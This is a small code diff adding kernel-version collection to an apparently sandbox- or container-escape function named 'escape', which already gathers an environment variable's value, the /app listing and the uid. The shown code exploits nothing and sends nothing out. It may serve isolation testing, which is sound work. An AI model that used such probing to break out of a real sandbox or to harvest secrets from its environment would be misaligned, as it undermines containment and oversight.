@@ -50,4 +50,5 @@ async def escape(ctx, host_files, port, marker, env_name):
         "env": os.environ.get(env_name),
         "app": _try(lambda: sorted(os.listdir("/app"))),
         "uid": os.getuid(),
+        "kernel": f"{os.uname().sysname} {os.uname().release}",
     }
